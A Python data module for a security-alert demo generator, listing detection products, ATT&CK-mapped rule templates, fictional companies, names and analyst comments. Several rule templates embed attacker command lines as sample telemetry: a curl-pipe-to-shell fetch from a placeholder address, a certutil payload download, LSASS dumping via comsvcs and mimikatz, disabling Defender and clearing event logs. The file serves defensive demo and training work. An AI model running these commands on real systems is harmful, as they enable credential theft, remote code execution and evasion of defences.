"""The vocabulary the demo generator draws from: companies, people, products and their rules.

These are building blocks, not alerts: the generator combines them at random (seeded) into
environments, episodes and alert payloads. Rule names follow each product's own style; each
rule names one ATT&CK technique and the tactic it is reported under, which the generator checks
against the shipped catalogue. Placeholders in command lines are filled per alert.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Literal

Kind = Literal["process", "network", "identity", "file"]
TacticStyle = Literal["name", "camel"]


@dataclass(frozen=True, slots=True)
class RuleTemplate:
    """A detection rule: name, ATT&CK pair, base severity, what it observes and how."""

    name: str
    technique: str
    tactic: str
    severity: int
    kind: Kind
    category: str
    image: str = ""
    cmd: str = ""
    port: int = 0


@dataclass(frozen=True, slots=True)
class Product:
    """A detection product as it reports: source name, dataset, id and tactic style, rules."""

    source: str
    dataset: str
    weight: int
    tactic_style: TacticStyle
    block_rate: float
    rules: tuple[RuleTemplate, ...]


R = RuleTemplate
PS = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
CMD = r"C:\Windows\System32\cmd.exe"

# fmt: off
PRODUCTS: tuple[Product, ...] = (
    Product("Microsoft Defender for Endpoint", "mde.AlertEvidence", 5, "camel", 0.25, (
        R("Suspicious PowerShell command line", "T1059.001", "Execution", 3, "process",
          "Execution", PS, "powershell.exe -nop -w hidden -enc {b64}"),
        R("Suspicious process injection observed", "T1055", "Defense Evasion", 4, "process",
          "DefenseEvasion", r"C:\Users\{login}\AppData\Local\Temp\{rand}.exe",
          r"{rand}.exe --inject explorer.exe"),
        R("Possible credential dumping via LSASS memory access", "T1003.001",
          "Credential Access", 4, "process", "CredentialAccess",
          r"C:\Windows\System32\rundll32.exe",
          r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump {n} C:\Temp\ls.dmp full"),
        R("Suspicious scheduled task created", "T1053.005", "Persistence", 2, "process",
          "Persistence", r"C:\Windows\System32\schtasks.exe",
          r"schtasks /create /sc minute /mo 30 /tn Updater{n} /tr C:\ProgramData\upd.exe"),
        R("Ransomware behavior detected in the file system", "T1486", "Impact", 4, "file",
          "Ransomware", r"C:\Users\{login}\Documents\{rand}.locked"),
        R("Suspicious WMI process creation", "T1047", "Execution", 3, "process", "Execution",
          r"C:\Windows\System32\wbem\WMIC.exe",
          'wmic /node:{peer} process call create "cmd /c whoami > C:\\Temp\\o.txt"'),
    )),
    Product("Microsoft Sentinel", "SecurityAlert", 4, "camel", 0.0, (
        R("Multiple failed sign-ins followed by a successful sign-in", "T1110",
          "Credential Access", 3, "identity", "Identity"),
        R("Sign-in from an anonymous IP address", "T1078", "Initial Access", 2, "identity",
          "Identity"),
        R("Impossible travel activity", "T1078.004", "Initial Access", 3, "identity", "Identity"),
        R("Mass download by a single user", "T1530", "Collection", 2, "identity", "Cloud"),
        R("New inbox rule forwards mail to an external address", "T1114.003", "Collection", 3,
          "identity", "Email"),
        R("Password spray against many accounts", "T1110.003", "Credential Access", 3,
          "identity", "Identity"),
    )),
    Product("Wazuh", "wazuh-alerts", 3, "name", 0.0, (
        R("sshd: brute force trying to get access to the system", "T1110.001",
          "Credential Access", 3, "network", "authentication_failures", port=22),
        R("Integrity checksum changed", "T1565.001", "Impact", 2, "file", "syscheck",
          "/etc/{linfile}"),
        R("Auditd: execution of a binary from /tmp", "T1059.004", "Execution", 3, "process",
          "audit", "/tmp/.{rand}", "/bin/sh -c 'curl -s http://{extip}/x | sh'"),
        R("Host-based anomaly detection event (rootcheck)", "T1014", "Defense Evasion", 2,
          "file", "rootcheck", "/usr/lib/.{rand}.so"),
        R("New local user added to the system", "T1136.001", "Persistence", 2, "process",
          "adduser", "/usr/sbin/useradd", "useradd -m -s /bin/bash svc{n}"),
        R("Successful sudo to ROOT executed", "T1548.003", "Privilege Escalation", 1,
          "process", "sudo", "/usr/bin/sudo", "sudo -i"),
    )),
    Product("Suricata", "suricata.eve", 3, "name", 0.15, (
        R("ET SCAN Nmap Scripting Engine User-Agent Detected", "T1046", "Discovery", 2,
          "network", "Attempted Information Leak", port=80),
        R("ET POLICY SMB2 NT Create AndX Request For an Executable File", "T1021.002",
          "Lateral Movement", 3, "network", "Potential Corporate Privacy Violation", port=445),
        R("ET MALWARE Cobalt Strike Beacon Observed", "T1071.001", "Command and Control", 4,
          "network", "A Network Trojan was detected", port=443),
        R("ET DNS Query for .onion proxy Domain", "T1090.003", "Command and Control", 2,
          "network", "Potentially Bad Traffic", port=53),
        R("ET EXPLOIT Apache log4j RCE Attempt (CVE-2021-44228)", "T1190", "Initial Access", 4,
          "network", "Attempted Administrator Privilege Gain", port=8080),
        R("ET INFO Large outbound transfer over non-standard port", "T1048", "Exfiltration", 2,
          "network", "Misc activity", port=8443),
    )),
    Product("Elastic Security", "endpoint.alerts", 2, "name", 0.1, (
        R("Suspicious MS Office Child Process", "T1566.001", "Initial Access", 3, "process",
          "process", r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
          CMD + r" /c certutil -urlcache -f http://{extip}/a.exe %TEMP%\a.exe"),
        R("Windows Defender Disabled via Registry Modification", "T1562.001",
          "Defense Evasion", 3, "process", "registry", r"C:\Windows\System32\reg.exe",
          r'reg add "HKLM\SOFTWARE\Policies\Microsoft\Windows Defender" /v DisableAntiSpyware '
          "/t REG_DWORD /d 1 /f"),
        R("Potential SSH Brute Force Detected", "T1110.001", "Credential Access", 2, "network",
          "authentication", port=22),
        R("Creation of Hidden Files and Directories", "T1564.001", "Defense Evasion", 1, "file",
          "file", "/home/{login}/.cache/.{rand}"),
        R("Kerberos Preauthentication Disabled for User", "T1558.003", "Credential Access", 3,
          "identity", "iam"),
        R("Enumeration of Domain Trusts via nltest", "T1482", "Discovery", 2, "process",
          "process", r"C:\Windows\System32\nltest.exe", "nltest /domain_trusts /all_trusts"),
    )),
    Product("CrowdStrike Falcon", "falcon.detection_summary", 3, "name", 0.4, (
        R("Machine Learning: a file written to disk meets the malware threshold", "T1204.002",
          "Execution", 3, "file", "Machine Learning",
          r"C:\Users\{login}\Downloads\Invoice_{n}.pdf.exe"),
        R("Masquerading: a process named like a system binary runs from an unusual path",
          "T1036.005", "Defense Evasion", 3, "process", "Masquerading",
          r"C:\Users\Public\svchost.exe", r"C:\Users\Public\svchost.exe -k netsvcs"),
        R("Registry Run key modified to launch a dropped binary", "T1547.001", "Persistence", 3,
          "process", "Persistence", r"C:\Windows\System32\reg.exe",
          r"reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v upd /d "
          r"C:\ProgramData\{rand}.exe"),
        R("PsExec-style remote service execution", "T1021.002", "Lateral Movement", 4,
          "process", "Lateral Movement", r"C:\Windows\PSEXESVC.exe",
          r"PsExec.exe \\{peer} -s -d cmd.exe /c {rand}.bat"),
        R("LSASS credential dumping with a known tool", "T1003.001", "Credential Access", 4,
          "process", "Credential Theft", r"C:\Temp\{rand}.exe",
          "{rand}.exe privilege::debug sekurlsa::logonpasswords exit"),
        R("Indicator removal: event logs cleared", "T1070.001", "Defense Evasion", 3, "process",
          "Defense Evasion", r"C:\Windows\System32\wevtutil.exe", "wevtutil cl Security"),
    )),
)

COMPANIES = (
    "Northwind Traders", "Contoso Health", "Fabrikam Logistics", "Tailspin Toys",
    "Woodgrove Bank", "Litware Energy", "Adatum Insurance", "Proseware Media",
    "Wide World Importers", "Alpine Ski House", "Coho Vineyard", "Fourth Coffee",
    "Lamna Healthcare", "Relecloud", "Trey Research", "VanArsdel", "Wingtip Toys",
    "Humongous Insurance", "Blue Yonder Airlines", "Graphic Design Institute",
)
FIRST_NAMES = (
    "Amelia", "Ben", "Carla", "Dmitri", "Elena", "Farid", "Grace", "Hiro", "Ines", "Jonas",
    "Keisha", "Liam", "Maya", "Noah", "Olga", "Pablo", "Quinn", "Rosa", "Sanjay", "Tess",
    "Uma", "Victor", "Wen", "Yusuf", "Zoe",
)
LAST_NAMES = (
    "Andersen", "Brooks", "Castillo", "Dubois", "Eriksen", "Fischer", "Garcia", "Hansen",
    "Ito", "Jensen", "Kowalski", "Lopez", "Murphy", "Nakamura", "Okafor", "Patel", "Quint",
    "Rossi", "Schmidt", "Tanaka", "Usman", "Varga", "Weber", "Yilmaz", "Zhang",
)
ANALYST_TITLES = ("SOC Analyst L1", "SOC Analyst L2", "Incident Responder", "Threat Hunter")
DEPARTMENTS = ("fin", "hr", "eng", "ops", "mkt", "sales", "it", "legal")
WINDOWS_SERVERS = ("dc01", "dc02", "fs01", "sql01", "exch01", "jump01", "app01", "print01")
LINUX_SERVERS = ("web-01", "web-02", "bastion-01", "k8s-node-01", "k8s-node-02", "db-01",
                 "mail-01", "vpn-01")
LINUX_FILES = ("passwd", "shadow", "ssh/sshd_config", "sudoers", "crontab", "hosts")
# Public-looking addresses from the documentation ranges (RFC 5737): safe to publish.
EXTERNAL_NETS = ("192.0.2.", "198.51.100.", "203.0.113.")
PUBLIC_RESOLVERS = ("8.8.8.8", "1.1.1.1", "9.9.9.9", "208.67.222.222")
COUNTRIES = ("NL", "US", "DE", "BR", "SG", "RU", "NG", "VN", "RO", "CN")

COMMENTS = (
    "Checked the process tree; the parent chain matches the alert description.",
    "Contacted the user; they did not recognise the activity.",
    "Host isolated from the network pending forensic triage.",
    "Same pattern seen on a second host last week; linking the cases.",
    "Reset the account's password and revoked its sessions.",
    "Change ticket found: this was a scheduled maintenance job.",
    "Hash has no hits in our threat intel; sent the sample for detonation.",
    "Blocked the destination address on the perimeter firewall.",
)
RESOLUTION_COMMENTS = {
    "TRUE_POSITIVE": "Confirmed malicious; contained and remediated.",
    "FALSE_POSITIVE": "Detection logic matched a legitimate admin script; tuning requested.",
    "BENIGN_POSITIVE": "Authorised penetration test activity (ticket on file).",
    "UNDETERMINED": "Not enough telemetry left to conclude; monitoring the host.",
}
# fmt: on
